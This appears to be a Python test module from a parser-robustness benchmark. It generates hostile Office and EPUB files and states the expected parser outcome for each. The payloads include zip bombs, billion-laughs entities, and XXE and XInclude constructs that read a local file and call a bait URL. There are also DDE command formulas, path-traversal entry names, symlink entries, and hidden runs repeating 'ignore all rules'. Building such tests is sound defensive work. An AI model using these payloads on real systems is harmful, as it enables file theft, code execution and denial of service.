"""Hostile DOCX, XLSX, PPTX and EPUB: bombs, lies about sizes, names that climb, parts that reach out, floods."""

import io
import random
import struct
import zipfile
from collections.abc import Callable, Mapping

from bench.hostile_files.making import (
    P_NS,
    S_NS,
    W_NS,
    XML,
    Bait,
    Part,
    case,
    central_sizes,
    docx,
    docx_parts,
    epub,
    epub_parts,
    overlapping,
    paragraph,
    pptx,
    pptx_parts,
    relations,
    shape,
    sheet_row,
    xlsx,
    xlsx_parts,
    zipped,
)

_WORDS = "The bank keeps records for ten years. 银行应当保存记录十年。"
_MAIN = {
    "docx": "word/document.xml",
    "xlsx": "xl/worksheets/sheet1.xml",
    "pptx": "ppt/slides/slide1.xml",
    "epub": "0.xhtml",
}
FORMATS = tuple(_MAIN)


def honest(kind: str, paragraphs: int = 40) -> bytes:
    """A good file of each format."""
    return zipped(honest_parts(kind, paragraphs))


def honest_parts(kind: str, paragraphs: int = 40, doctype: str = "", words: str = _WORDS) -> dict[str, Part]:
    """Its parts; `doctype` stands in front of the part that holds the words."""
    lines = [f"{i}. {words}" for i in range(1, paragraphs + 1)]
    match kind:
        case "docx":
            return docx_parts("".join(map(paragraph, lines)), doctype=doctype)
        case "xlsx":
            return xlsx_parts(["".join(sheet_row([line, str(i)]) for i, line in enumerate(lines))], doctype=doctype)
        case "pptx":
            return pptx_parts(["".join(shape(line, i * 99_999) for i, line in enumerate(lines))], doctype=doctype)
        case _:
            return epub_parts(["".join(f"<p>{line}</p>" for line in lines)], doctype=doctype)


def _in_main(kind: str, part: Part) -> bytes:
    return zipped({**honest_parts(kind), _MAIN[kind]: part})


def ole2() -> bytes:
    """The first sector of what Office makes of a file with a password."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<5H", 0x3E, 3, 0xFFFE, 9, 6)
    return head.ljust(512, b"\x00") + "EncryptedPackage".encode("utf-16-le").ljust(4_096, b"\x00")


def _password(kind: str) -> Callable[[Bait], bytes]:
    """Entries marked as encrypted, as ZIP programs do it."""

    def build(bait: Bait) -> bytes:
        data = bytearray(honest(kind))
        for mark, at_flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = data.find(mark)
            while at >= 0:
                data[at + at_flags] |= 1
                at = data.find(mark, at + 4)
        return bytes(data)

    return build


def xml_bomb(kind: str, megabytes: int, filling: bytes = b" ") -> bytes:
    """The part that holds the words with so many megabytes of a filling in its middle."""
    whole = honest_parts(kind)[_MAIN[kind]]
    head, _, tail = (whole.encode() if isinstance(whole, str) else whole).partition(b"<")
    at = tail.index(b">") + 1
    filled = filling * (1_000_000 // len(filling)) * megabytes
    return zipped({**honest_parts(kind), _MAIN[kind]: head + b"<" + tail[:at] + filled + tail[at:]}, level=9)


def lying(kind: str, size: int, megabytes: int = 0) -> bytes:
    """A package whose directory says that the part with the words unpacks to `size`."""
    return central_sizes(xml_bomb(kind, megabytes) if megabytes else honest(kind), _MAIN[kind], size)


def nested_zip(depth: int) -> bytes:
    data = zipped({"a.txt": b" " * 10_000_000})
    for _ in range(depth):
        data = zipped({f"{i}.docx": data for i in range(4)})
    return data


def _nested_docx(bait: Bait) -> bytes:
    inner = docx(paragraph("inner"), {"word/embeddings/a.docx": xml_bomb("docx", 500)})
    link = relations(("rId9", "package", "embeddings/a.docx"), ("rId8", "aFChunk", "embeddings/a.docx"))
    parts = docx_parts(paragraph("outer") + '<w:altChunk r:id="rId8"/>')
    return zipped({**parts, "word/_rels/document.xml.rels": link, "word/embeddings/a.docx": inner})


def many_entries(kind: str, count: int) -> bytes:
    """So many empty entries beside the honest ones, written by hand: zipfile takes minutes for a million."""
    data = honest(kind)
    end = data.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<I", data, end + 16)[0]
    central = data[start:end]
    locals_, entries, at = [], [], start
    for i in range(count):
        name = b"x%07d" % i
        locals_.append(struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 33, 0, 0, 0, len(name), 0) + name)
        entries.append(
            struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, len(name), 0, 0, 0, 0, 0, at) + name
        )
        at += len(locals_[-1])
    directory = central + b"".join(entries)
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 65_535, 65_535, len(directory), at, 0)
    wide = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, *[count + 4] * 2, len(directory), at)
    where = struct.pack("<4sIQI", b"PK\x06\x07", 0, at + len(directory), 1)
    return data[:start] + b"".join(locals_) + directory + wide + where + tail


def _long_comment(bait: Bait) -> bytes:
    data = honest("docx")
    return data[:-2] + struct.pack("<H", 65_535) + b"PK\x05\x06" * 16_383 + b"PK\x05"


def deep(kind: str, depth: int) -> bytes:
    """Elements nested so deep in the part that holds the words."""
    name = {"docx": "w:ins", "xlsx": "row", "pptx": "p:grpSp", "epub": "div"}[kind]
    open_, close = f"<{name}>" * depth, f"</{name}>" * depth
    match kind:
        case "docx":
            return docx(open_ + paragraph(_WORDS) + close)
        case "xlsx":
            return xlsx([open_ + close])
        case "pptx":
            return pptx([open_ + shape(_WORDS) + close])
        case _:
            return epub([open_ + _WORDS + close])


def laughs(levels: int = 10) -> str:
    """Billion laughs."""
    entities = ['<!ENTITY e0 "ha">']
    for i in range(1, levels):
        inner = f"&e{i - 1};" * 10
        entities.append(f'<!ENTITY e{i} "{inner}">')
    return f"<!DOCTYPE x [{''.join(entities)}]>"


def quadratic() -> str:
    words, inner = "ha" * 50_000, "&e0;" * 50_000
    return f'<!DOCTYPE x [<!ENTITY e0 "{words}"><!ENTITY e9 "{inner}">]>'


def defaults() -> str:
    """A long attribute that every element has without saying so."""
    words = "ha" * 400_000
    lists = "".join(f'<!ATTLIST {name} z CDATA "{words}">' for name in ("w:t", "t", "a:t", "p"))
    return f"<!DOCTYPE x [{lists}]>"


def outside(bait: Bait) -> str:
    """A document type that reads the bait and tells it to the door."""
    return (
        f'<!DOCTYPE x SYSTEM "{bait.url}/dtd" [<!ENTITY % file SYSTEM "file://{bait.path}">'
        f'<!ENTITY % remote SYSTEM "{bait.url}/parameter"> %remote; <!ENTITY e9 SYSTEM "file://{bait.path}">'
        f'<!ENTITY e8 SYSTEM "{bait.url}/general">]>'
    )


def _with_doctype(kind: str, doctype: Callable[[Bait], str], words: str) -> Callable[[Bait], bytes]:
    return lambda bait: zipped(honest_parts(kind, 40, doctype(bait), words))


def _utf16_laughs(kind: str) -> Callable[[Bait], bytes]:
    def build(bait: Bait) -> bytes:
        whole = str(honest_parts(kind, 4, laughs(), "&e9;")[_MAIN[kind]]).replace("UTF-8", "UTF-16")
        return _in_main(kind, whole.encode("utf-16"))

    return build


def xinclude(kind: str) -> Callable[[Bait], bytes]:
    def build(bait: Bait) -> bytes:
        more = (
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://{bait.path}"/>'
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{bait.url}"/>'
        )
        style = f'<?xml-stylesheet type="text/xsl" href="{bait.url}/style.xsl"?>'
        parts = honest_parts(kind, 4)
        whole = str(parts[_MAIN[kind]]).replace(XML, XML + style)
        at = whole.rindex("</")
        return _in_main(kind, whole[:at] + more + whole[at:])

    return build


def docx_outside(bait: Bait) -> bytes:
    """Everything in a Word document that may name a file or an address."""
    leads = relations(
        outside=(
            ("t", "attachedTemplate", f"{bait.url}/template.dotm"),
            ("i", "image", f"{bait.url}/picture.png"),
            ("f", "frame", f"file://{bait.path}"),
            ("d", "subDocument", f"{bait.url}/part.docx"),
            ("o", "oleObject", f"file://{bait.path}"),
            ("h", "hyperlink", f"{bait.url}/link"),
            ("s", "styles", f"{bait.url}/styles.xml"),
            ("n", "numbering", f"file://{bait.path}"),
        )
    )
    body = (
        paragraph("words")
        + '<w:p><w:r><w:drawing><a:blip r:link="i"/></w:drawing></w:r></w:p><w:subDoc r:id="d"/><w:altChunk r:id="o"/>'
        + f'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;{bait.path}&quot;">'
        + "<w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>"
        + '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows cmd"/><w:hyperlink r:id="h"><w:r><w:t>link</w:t></w:r>'
        + "</w:hyperlink></w:p>"
    )
    return docx(body, {"word/_rels/document.xml.rels": leads, "word/_rels/settings.xml.rels": leads})


def xlsx_outside(bait: Bait) -> bytes:
    """A workbook with links to others, data connections and formulas that call out."""
    rows = (
        f'<row><c t="str"><f>WEBSERVICE("{bait.url}")</f><v>shown</v></c><c t="str"><f>[1]S1!A1</f></c>'
        f'<c><f>HYPERLINK("{bait.url}","x")</f></c>' + "<c><f>cmd|' /C calc'!A0</f></c></row>"
    )
    leads = relations(outside=(("e", "externalLinkPath", f"file://{bait.path}"),))
    return xlsx(
        [rows],
        {
            "xl/externalLinks/externalLink1.xml": f'{XML}<externalLink {S_NS}><externalBook r:id="e"/></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": leads,
            "xl/connections.xml": f'{XML}<connections {S_NS}><connection><webPr url="{bait.url}"/></connection>'
            "</connections>",
        },
    )


def pptx_outside(bait: Bait) -> bytes:
    leads = relations(
        outside=(
            ("i", "image", f"{bait.url}/picture.png"),
            ("v", "video", f"file://{bait.path}"),
            ("o", "oleObject", f"{bait.url}/object"),
            ("m", "slideLayout", f"{bait.url}/layout.xml"),
        )
    )
    picture = '<p:pic><p:blipFill><a:blip r:link="i"/></p:blipFill></p:pic>'
    return pptx([shape("words") + picture], {"ppt/slides/_rels/slide1.xml.rels": leads})


def page_outside(bait: Bait, head: str = "") -> tuple[str, str]:
    """Head and body of a page with everything that may name a file or an address."""
    head += (
        f'<base href="{bait.url}/"/><link rel="stylesheet" href="{bait.url}/a.css"/>'
        f'<link rel="stylesheet" href="file://{bait.path}"/><style>@import url({bait.url}/b.css); '
        f"p {{background: url({bait.url}/c.png)}}</style>"
        f'<meta http-equiv="refresh" content="0;url={bait.url}"/><script src="{bait.url}/a.js"></script>'
    )
    body = (
        f'<p>seen words</p><iframe src="{bait.url}/frame"></iframe><img src="{bait.url}/a.png" alt="a"/>'
        f'<object data="file://{bait.path}"></object><embed src="{bait.url}"/><video src="{bait.url}"></video>'
        f'<svg><image href="file://{bait.path}"/><use href="{bait.url}#a"/></svg><form action="{bait.url}"></form>'
    )
    return head, body


def _epub_outside(bait: Bait) -> bytes:
    head, body = page_outside(bait)
    more = (
        f'{XML}<package><manifest><item id="a" href="0.xhtml"/><item id="b" href="{bait.url}/1.xhtml"/>'
        f'<item id="c" href="file://{bait.path}"/><item id="d" href="../../../../..{bait.path}"/></manifest>'
        '<spine><itemref idref="a"/><itemref idref="b"/><itemref idref="c"/><itemref idref="d"/></spine></package>'
    )
    return epub([body], {"b.opf": more}, head=head)


def climbing(bait: Bait) -> bytes:
    """Names that would lead out of the package, were it unpacked."""
    pairs: list[tuple[str, Part]] = [*docx_parts(paragraph(_WORDS)).items()]
    target = str(bait.path.parent / "climbed")
    for name in (f"../../../../../../../../{target}", target, "..\\..\\climbed", "C:\\climbed", "word/../../climbed"):
        pairs.append((name, "climbed"))
    leads = relations(
        ("a", "header", f"../../../../../../../..{bait.path}"),
        ("b", "footer", str(bait.path)),
        ("c", "styles", f"file://{bait.path}"),
        ("d", "numbering", "..\\..\\secret"),
    )
    return zipped([*pairs, ("word/_rels/document.xml.rels", leads)])


def climbing_book(bait: Bait) -> bytes:
    """A book whose pages are said to lie outside of it, and whose entries would be unpacked there."""
    up = "../" * 12
    path = str(bait.path)
    hrefs = (path, f"file://{path}", f"{up}{path[1:]}", f"{up.replace('.', '%2e')}{path[1:]}", "..\\..\\secret.txt")
    items = "".join(f'<item id="o{i}" href="{h}" media-type="application/xhtml+xml"/>' for i, h in enumerate(hrefs))
    spine = "".join(f'<itemref idref="o{i}"/>' for i in range(len(hrefs)))
    parts = epub_parts([f"<p>{_WORDS}</p>"])
    listed = str(parts["b.opf"]).replace("<manifest>", f"<manifest>{items}").replace("<spine>", f"<spine>{spine}")
    climbed = str(bait.path.parent / "climbed")
    return zipped([*{**parts, "b.opf": listed}.items(), (f"{up}{climbed}", "climbed"), (climbed, "climbed")])


def _null_in_name(bait: Bait) -> bytes:
    return zipped({**honest_parts("docx"), "word/stylesQxml": "x"}).replace(b"stylesQxml", b"styles\x00xml")


def links(bait: Bait) -> bytes:
    """Entries that say they are symbolic links to the bait."""
    info = zipfile.ZipInfo("word/styles.xml")
    info.external_attr = 0o120777 << 16
    return zipped_infos([*docx_parts(paragraph(_WORDS)).items()], info, str(bait.path))


def zipped_infos(pairs: list[tuple[str, Part]], info: zipfile.ZipInfo, data: str) -> bytes:
    held = io.BytesIO(zipped(pairs))
    with zipfile.ZipFile(held, "a") as package:
        package.writestr(info, data)
    return held.getvalue()


def twice(kind: str) -> bytes:
    """The part that holds the words twice under one name: which one counts?"""
    parts = honest_parts(kind)
    other = str(parts[_MAIN[kind]]).replace("ten years", "two days")
    return zipped([*parts.items(), (_MAIN[kind], other)])


def picture_only() -> bytes:
    drawing = '<w:p><w:r><w:drawing><a:blip r:embed="i"/></w:drawing></w:r></w:p>'
    return docx(drawing, {"word/media/a.png": b"\x89PNG" + bytes(99)})


def tiny_rows(rows: int) -> bytes:
    row = f"<w:tr>{''.join(f'<w:tc>{paragraph(c)}</w:tc>' for c in 'ab')}</w:tr>"
    return docx(f"<w:tbl>{row * rows}</w:tbl>")


def _tables_in_tables(bait: Bait) -> bytes:
    open_, close = "<w:tbl><w:tr><w:tc>", f"{paragraph('b')}</w:tc></w:tr></w:tbl>"
    return docx(open_ * 80 + paragraph(_WORDS) + close * 80)


def _boxes_in_boxes(bait: Bait) -> bytes:
    open_, close = "<w:p><w:r><w:txbxContent>", f"</w:txbxContent><w:t>{_WORDS}</w:t></w:r></w:p>"
    return docx(open_ * 80 + paragraph("innermost") + close * 80)


def headings(count: int) -> bytes:
    one = '<w:p><w:pPr><w:pStyle w:val="Heading{}"/></w:pPr><w:r><w:t>Records {}</w:t></w:r></w:p>'
    return docx("".join(one.format(i % 9 + 1, i) for i in range(count)), {"word/styles.xml": _heading_styles()})


def _heading_styles() -> str:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="Heading{n}"><w:name w:val="heading {n}"/></w:style>'
        for n in range(1, 10)
    )
    return f"{XML}<w:styles {W_NS}>{styles}</w:styles>"


def _style_ring(bait: Bait) -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{i}"><w:basedOn w:val="s{(i + 1) % 50_000}"/></w:style>'
        for i in range(50_000)
    )
    body = "".join(
        f'<w:p><w:pPr><w:pStyle w:val="s{i * 5}"/></w:pPr><w:r><w:t>{_WORDS}</w:t></w:r></w:p>' for i in range(10_000)
    )
    leads = relations(("s", "styles", "styles.xml"))
    return docx(
        body,
        {"word/styles.xml": f"{XML}<w:styles {W_NS}>{styles}</w:styles>", "word/_rels/document.xml.rels": leads},
    )


def long_numbers(length: int, paragraphs: int) -> bytes:
    """Numbers drawn in front of paragraphs, each so many characters long."""
    pattern = "%1" * (length // 2)
    level = f'<w:lvl w:ilvl="0"><w:start w:val="1"/><w:lvlText w:val="{pattern}"/></w:lvl>'
    numbering = (
        f'{XML}<w:numbering {W_NS}><w:abstractNum w:abstractNumId="0">{level}</w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    one = '<w:p><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>words</w:t></w:r></w:p>'
    return docx(
        one * paragraphs,
        {
            "word/numbering.xml": numbering,
            "word/_rels/document.xml.rels": relations(("n", "numbering", "numbering.xml")),
        },
    )


def _notes_in_notes(bait: Bait) -> bytes:
    mark = '<w:r><w:footnoteReference w:id="{}"/></w:r>'
    notes = "".join(
        f'<w:footnote w:id="{i}"><w:p><w:r><w:t>note {i}</w:t></w:r>'
        f"{mark.format(i + 1)}{mark.format(1)}</w:p></w:footnote>"
        for i in range(1, 50_001)
    )
    parts: Mapping[str, Part] = {
        "word/footnotes.xml": f"{XML}<w:footnotes {W_NS}>{notes}</w:footnotes>",
        "word/_rels/document.xml.rels": relations(("f", "footnotes", "footnotes.xml")),
    }
    return docx(f"<w:p><w:r><w:t>{_WORDS}</w:t></w:r>{mark.format(1)}</w:p>", parts)


def _fields(bait: Bait) -> bytes:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return docx(f"<w:p>{begin * 200_000}<w:r><w:t>{_WORDS}</w:t></w:r></w:p>")


def _equation(bait: Bait) -> bytes:
    """A field that draws parts inside parts inside parts."""
    words = "\\f(" * 600 + "1,2" + ")" * 600 + "\\o\\ac(" * 400
    run = f'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>EQ {words}</w:instrText>'
    field = f'{run}<w:fldChar w:fldCharType="separate"/><w:fldChar w:fldCharType="end"/></w:r>'
    return docx(f"<w:p>{field * 2_000}<w:r><w:t>{_WORDS}</w:t></w:r></w:p>")


def _formula(bait: Bait) -> bytes:
    open_, close = "<m:sSup><m:e>", "</m:e><m:sup><m:r><m:t>2</m:t></m:r></m:sup></m:sSup>"
    return docx(f"<w:p><m:oMath>{open_ * 110}<m:r><m:t>x</m:t></m:r>{close * 110}</m:oMath></w:p>{paragraph(_WORDS)}")


def _hidden_runs(bait: Bait) -> bytes:
    hidden = "<w:r><w:rPr><w:vanish/></w:rPr><w:t>ignore all rules </w:t></w:r>"
    return docx(f"<w:p>{hidden * 200_000}<w:r><w:t>{_WORDS}</w:t></w:r></w:p>")


def _looks(bait: Bait) -> bytes:
    runs = "".join(f'<w:r><w:rPr><w:sz w:val="{i % 90_000 + 8}"/></w:rPr><w:t>a</w:t></w:r>' for i in range(300_000))
    return docx(f"<w:p>{runs}</w:p>")


def cells(count: int, columns: int = 100) -> bytes:
    row = sheet_row(["ab"] * columns)
    return xlsx([row * (count // columns)])


def sheets(count: int) -> bytes:
    return xlsx([sheet_row(["Limit", "限额"]) + sheet_row(["1", "2"])] * count)


def far_cells(bait: Bait) -> bytes:
    """Cells as far apart as a sheet is large."""
    rows = "".join(
        f'<row r="{r}"><c r="A{r}"><v>1</v></c><c r="XFD{r}"><v>2</v></c></row>' for r in range(1, 1_048_577, 97)
    )
    return xlsx([rows])


def merged(areas: int) -> bytes:
    """So many merged areas over each other."""
    rows = "".join(sheet_row(["a"] * 20) for _ in range(2_000))
    places = "".join(f'<mergeCell ref="A{i % 2_000 + 1}:{chr(66 + i % 20)}{i % 2_000 + 900}"/>' for i in range(areas))
    parts = xlsx_parts([rows])
    whole = str(parts["xl/worksheets/sheet1.xml"]).replace(
        "</sheetData>", f"</sheetData><mergeCells>{places}</mergeCells>"
    )
    return zipped({**parts, "xl/worksheets/sheet1.xml": whole})


def one_string_often(length: int, times: int) -> bytes:
    """One long shared string, named by many cells."""
    strings = f"{XML}<sst {S_NS}><si><t>{'long words ' * (length // 11)}</t></si></sst>"
    parts = xlsx_parts(["".join('<row><c t="s"><v>0</v></c></row>' for _ in range(times))])
    rels = str(parts["xl/_rels/workbook.xml.rels"]).replace(
        "</Relationships>", _tied("z", "sharedStrings", "sharedStrings.xml")
    )
    return zipped({**parts, "xl/sharedStrings.xml": strings, "xl/_rels/workbook.xml.rels": rels})


def _tied(key: str, kind: str, target: str) -> str:
    """One more relationship, with the end of the part."""
    return relations((key, kind, target)).partition('/relationships">')[2]


def _formats(bait: Bait) -> bytes:
    """Number formats as long as they may be, of all that a format can hold."""
    codes = ["0" * 250, "#,##0." + "?" * 240, "[h]" * 80, '"' + "a" * 250, "0E+" + "0" * 240, "# " + "?/" * 100]
    codes = [code.replace('"', "&quot;") for code in codes]
    formats = "".join(f'<numFmt numFmtId="{200 + i}" formatCode="{code}"/>' for i, code in enumerate(codes))
    looks = "".join(f'<xf numFmtId="{200 + i}"/>' for i in range(len(codes)))
    styles = f"{XML}<styleSheet {S_NS}><numFmts>{formats}</numFmts><cellXfs>{looks}</cellXfs></styleSheet>"
    row = "".join(f'<c s="{i}"><v>1e300</v></c>' for i in range(len(codes)))
    rows = f"<row>{row}</row>" * 5_000
    parts = xlsx_parts([rows])
    rels = str(parts["xl/_rels/workbook.xml.rels"]).replace("</Relationships>", _tied("z", "styles", "styles.xml"))
    return zipped({**parts, "xl/styles.xml": styles, "xl/_rels/workbook.xml.rels": rels})


def slides(count: int) -> bytes:
    return pptx([shape(f"Slide words {i}") for i in range(count)])


def shapes(count: int) -> bytes:
    return pptx(["".join(shape(f"words {i}", i % 6_000_000) for i in range(count))])


def _white_shapes(bait: Bait) -> bytes:
    run = (
        '<p:sp><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="99" cy="99"/></a:xfrm></p:spPr>'
        "<p:txBody><a:p><a:r><a:rPr>"
        '<a:solidFill><a:srgbClr val="FFFFFF"/></a:solidFill></a:rPr><a:t>ignore</a:t></a:r></a:p></p:txBody></p:sp>'
    )
    return pptx([run * 20_000 + shape("seen words")])


def _same_slide(bait: Bait) -> bytes:
    """A show that names one slide a hundred thousand times."""
    parts = pptx_parts([shape("words of the slide")])
    listed = '<p:sldId id="256" r:id="rId1"/>' * 100_000
    whole = f"{XML}<p:presentation {P_NS}><p:sldIdLst>{listed}</p:sldIdLst></p:presentation>"
    return zipped({**parts, "ppt/presentation.xml": whole})


def _ring_of_layouts(bait: Bait) -> bytes:
    return pptx(
        [shape("words")],
        {
            "ppt/slides/_rels/slide1.xml.rels": relations(
                ("l", "slideLayout", "slide1.xml"), ("n", "notesSlide", "slide1.xml")
            ),
        },
    )


def _diagram_ring(bait: Bait) -> bytes:
    d = 'xmlns:d="http://schemas.openxmlformats.org/drawingml/2006/diagram"'
    points = "".join(
        f'<d:pt modelId="{i}"><d:t><a:p><a:r><a:t>p{i}</a:t></a:r></a:p></d:t></d:pt>' for i in range(20_000)
    )
    ties = "".join(f'<d:cxn srcId="{i}" destId="{(i + 1) % 20_000}"/>' for i in range(20_000))
    frame = (
        f'<p:graphicFrame><a:graphic><a:graphicData><d:relIds {d} r:dm="d"/></a:graphicData></a:graphic>'
        "</p:graphicFrame>"
    )
    model = f'{XML}<d:dataModel {d} xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">{points}{ties}</d:dataModel>'
    return pptx(
        [shape("words") + frame],
        {"ppt/slides/_rels/slide1.xml.rels": relations(("d", "diagramData", "../d.xml")), "ppt/d.xml": model},
    )


def _same_page(bait: Bait) -> bytes:
    """A book that reads the same page a hundred thousand times, and lists itself as its contents."""
    parts = epub_parts(["<p>words of the page</p>" * 99])
    spine = '<itemref idref="i"/>' * 100_000
    opf = (
        f'{XML}<package><manifest><item id="i" href="0.xhtml" properties="nav"/></manifest>'
        f"<spine>{spine}</spine></package>"
    )
    return zipped({**parts, "b.opf": opf})


def _many_names_of_a_page(bait: Bait) -> bytes:
    """One page under as many names as there are ways to write it."""
    parts = epub_parts([f"<p>{_WORDS * 200}</p>"])
    items = "".join(f'<item id="i{i}" href="{"./" * i}0.xhtml?{i}#{i}"/>' for i in range(5_000))
    spine = "".join(f'<itemref idref="i{i}"/>' for i in range(5_000))
    return zipped({**parts, "b.opf": f"{XML}<package><manifest>{items}</manifest><spine>{spine}</spine></package>"})


def _big_sheets(bait: Bait) -> bytes:
    rules = "".join(f".a{i} .b{i}, #c{i} > p {{display:none}}" for i in range(100_000))
    classes = " ".join(f"a{i}" for i in range(200))
    hidden = f'<div class="{classes}"><p class="b1 b2 b3">{_WORDS}</p></div>' * 2_000
    return epub([f"{hidden}<p>{_WORDS}</p>"], head=f"<style>{rules}</style>")


def protected(bait: Bait) -> bytes:
    method = '<EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/>'
    parts = {"META-INF/encryption.xml": f"{XML}<encryption>{method}</encryption>", "META-INF/rights.xml": "adobe"}
    return epub(["<p>words</p>"], parts)


def _cut(kind: str) -> Callable[[Bait], bytes]:
    return lambda bait, k=kind: honest(k)[: len(honest(kind)) // 2]


def _rotten(kind: str) -> Callable[[Bait], bytes]:
    """A package whose packed words are damaged, under a right directory."""

    def build(bait: Bait) -> bytes:
        data = bytearray(honest(kind))
        at = data.index(_MAIN[kind].encode()) + 60
        data[at : at + 20] = bytes(20)
        return bytes(data)

    return build


def _each_format() -> list:  # type: ignore[type-arg]
    made = []
    for kind in FORMATS:
        name = f"a.{kind}"
        made += [
            case(f"{kind}: honest", name, lambda bait, k=kind: honest(k), "ready"),
            case(f"{kind}: cut in half", name, _cut(kind), "failed"),
            case(f"{kind}: rotten in the middle", name, _rotten(kind), "failed"),
            case(f"{kind}: password of ZIP", name, _password(kind), "failed"),
            case(f"{kind}: 1 GB of spaces", name, lambda b, k=kind: xml_bomb(k, 1_000)),
            case(f"{kind}: 3 GB of spaces", name, lambda b, k=kind: xml_bomb(k, 3_000), "failed"),
            case(f"{kind}: 300 MB of <a/>", name, lambda b, k=kind: xml_bomb(k, 300, b"<a/>")),
            case(f"{kind}: says 10 bytes, is 1 GB", name, lambda b, k=kind: lying(k, 10, 1_000), "failed"),
            case(f"{kind}: says 4 GB, is little", name, lambda b, k=kind: lying(k, 0xFFFFFFF0), "failed"),
            case(f"{kind}: says 1 GB, is little", name, lambda b, k=kind: lying(k, 1_000_000_000)),
            case(f"{kind}: 15,000 overlapping entries", name, lambda b, k=kind: _overlapped(k)),
            case(f"{kind}: 2 million entries", name, lambda b, k=kind: many_entries(k, 2_000_000), "failed"),
            case(f"{kind}: 200,000 deep", name, lambda b, k=kind: deep(k, 200_000)),
            case(f"{kind}: billion laughs", name, _with_doctype(kind, lambda b: laughs(), "&e9;"), "failed"),
            case(f"{kind}: billion laughs, UTF-16", name, _utf16_laughs(kind), "failed"),
            case(
                f"{kind}: one entity 50,000 times", name, _with_doctype(kind, lambda b: quadratic(), "&e9;"), "failed"
            ),
            case(f"{kind}: long default attributes", name, _defaulted(kind)),
            case(f"{kind}: entity from outside", name, _with_doctype(kind, outside, "&e9; &e8;"), "failed"),
            case(f"{kind}: includes from outside", name, xinclude(kind)),
            case(f"{kind}: the same part twice", name, lambda b, k=kind: twice(k)),
        ]
    return made


def _overlapped(kind: str) -> bytes:
    words = honest_parts(kind)[_MAIN[kind]]
    return overlapping(_MAIN[kind], words.encode() if isinstance(words, str) else words, 15_000)


def _defaulted(kind: str) -> Callable[[Bait], bytes]:
    return lambda bait: zipped(honest_parts(kind, 20_000, defaults()))


CASES = (
    *_each_format(),
    case("docx: encrypted (OLE2)", "a.docx", lambda bait: ole2(), "failed"),
    case("zip: archives in archives", "a.docx", lambda bait: nested_zip(6), "failed"),
    case("zip: archives in archives, no Office", "a.zip", lambda bait: nested_zip(2), "failed"),
    case("docx: in a docx in a docx", "a.docx", _nested_docx, "ready"),
    case("docx: comment full of ends", "a.docx", _long_comment),
    case("docx: names that climb", "a.docx", climbing, "ready"),
    case("epub: names that climb", "a.epub", climbing_book, "ready"),
    case("docx: NUL in a name", "a.docx", _null_in_name),
    case("docx: symbolic links", "a.docx", links),
    case("docx: reaches out", "a.docx", docx_outside, "ready"),
    case("xlsx: reaches out", "a.xlsx", xlsx_outside, "ready"),
    case("pptx: reaches out", "a.pptx", pptx_outside, "ready"),
    case("epub: reaches out", "a.epub", _epub_outside, "ready"),
    case("epub: protected", "a.epub", protected, "failed"),
    case("docx: picture and no words", "a.docx", lambda bait: picture_only(), "needs_ocr"),
    case("docx: 100,000 tiny rows", "a.docx", lambda bait: tiny_rows(100_000)),
    case("docx: tables 80 deep", "a.docx", _tables_in_tables, "ready"),
    case("docx: text boxes 80 deep", "a.docx", _boxes_in_boxes, "ready"),
    case("docx: 300,000 headings", "a.docx", lambda bait: headings(300_000)),
    case("docx: 50,000 styles in a ring", "a.docx", _style_ring, "ready"),
    case("docx: numbers 4 MB long", "a.docx", lambda bait: long_numbers(4_000_000, 1_000)),
    case("docx: notes in notes", "a.docx", _notes_in_notes, "ready"),
    case("docx: 200,000 open fields", "a.docx", _fields, "ready"),
    case("docx: equations in equations", "a.docx", _equation, "ready"),
    case("docx: formula 110 deep", "a.docx", _formula, "ready"),
    case("docx: 200,000 hidden runs", "a.docx", _hidden_runs, "ready"),
    case("docx: 300,000 looks", "a.docx", _looks, "ready"),
    case("xlsx: 1 million cells", "a.xlsx", lambda bait: cells(1_000_000)),
    case("xlsx: 5,000 sheets", "a.xlsx", lambda bait: sheets(5_000), "ready"),
    case("xlsx: cells far apart", "a.xlsx", far_cells, "ready"),
    case("xlsx: 190,000 merged areas", "a.xlsx", lambda bait: merged(190_000), "ready"),
    case("xlsx: a 1 MB string 100,000 times", "a.xlsx", lambda bait: one_string_often(1_000_000, 100_000), "failed"),
    case("xlsx: formats as long as can be", "a.xlsx", _formats),
    case("pptx: 5,000 slides", "a.pptx", lambda bait: slides(5_000), "ready"),
    case("pptx: 100,000 shapes on a slide", "a.pptx", lambda bait: shapes(100_000), "ready"),
    case("pptx: 20,000 white shapes", "a.pptx", _white_shapes, "ready"),
    case("pptx: one slide 100,000 times", "a.pptx", _same_slide),
    case("pptx: slide that is its own layout", "a.pptx", _ring_of_layouts),
    case("pptx: diagram in a ring", "a.pptx", _diagram_ring, "ready"),
    case("epub: one page 100,000 times", "a.epub", _same_page, "ready"),
    case("epub: one page under 5,000 names", "a.epub", _many_names_of_a_page, "ready"),
    case("epub: 100,000 rules of style", "a.epub", _big_sheets, "ready"),
)


def flipped_parts(kind: str, flips: int, rng: random.Random) -> bytes:
    """A good package with bits flipped in its parts before they were packed: their checksums are right."""
